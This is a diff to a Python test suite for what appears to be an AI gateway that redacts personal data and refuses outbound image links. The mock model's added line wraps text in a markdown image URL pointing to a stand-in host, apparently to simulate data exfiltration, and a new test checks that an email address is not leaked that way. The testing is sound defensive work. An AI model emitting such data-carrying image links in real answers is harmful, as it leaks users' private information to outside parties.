@@ -2,6 +2,7 @@
 
 import base64
 import json
+import secrets
 import shutil
 import subprocess
 import tempfile
@@ -28,6 +29,8 @@ def say(exchange):
     """Answers what stands behind `say: ` in the last message, in the form that it was asked in."""
     body = exchange.json()
     text = body["messages"][-1]["content"].removeprefix("say: ")
+    if text.startswith("show "):  # what the gate let it see, by an image
+        text = f"![x](https://a.example/?m={text.removeprefix('show ')}) "
     pieces = [text[i:i + 5] for i in range(0, len(text), 5)]
     if "/messages" not in exchange.target:
         if not body.get("stream"):
@@ -60,6 +63,8 @@ def say(exchange):
 
 def gate_of(port, outflow, policies=None, **more):
     looks = {} if outflow is None else {"outflow": outflow}
+    if "privacy" in more:
+        looks["privacy"] = more.pop("privacy")
     return Gate({
         "upstreams": {"chat": world.upstream(port)},
         "models": {"chat": {"targets": [{"upstream": "chat", "model": "m"}]}},
@@ -172,6 +177,21 @@ class Answers(unittest.TestCase):
             self.assertIn("error", answer.text)
             self.assertNotIn("more", answer.text)
             self.assertEqual(gate.events()[-1]["outcome"], "refused")
+
+    def test_what_stands_for_a_value_must_not_leave_by_a_link(self):
+        gate = gate_of(self.upstream.port, {"images": "refuse", "image_hosts": ["*"]}, privacy={
+            "key": {"file": "privacy.key"}, "replace": [{"types": ["EMAIL_ADDRESS"]}]})
+        key = gate.folder / "privacy.key"
+        key.write_text(secrets.token_hex(32) + "\n")
+        key.chmod(0o600)
+        self.key = gate.create_key("app")
+        self.enterContext(gate)
+        self.assertEqual(self.ask(gate, "show nothing").status, 200)
+        for stream in (False, True, False):
+            answer = self.ask(gate, "show ann.miller@example.com", stream)
+            self.assertNotIn("ann.miller", answer.text)
+            rules = {f["rule"] for f in gate.events()[-1]["findings"]}
+            self.assertIn("link-taint", rules)
 
     def test_a_reload_changes_what_is_refused(self):
         gate = self.run_gate({"images": "annotate"})
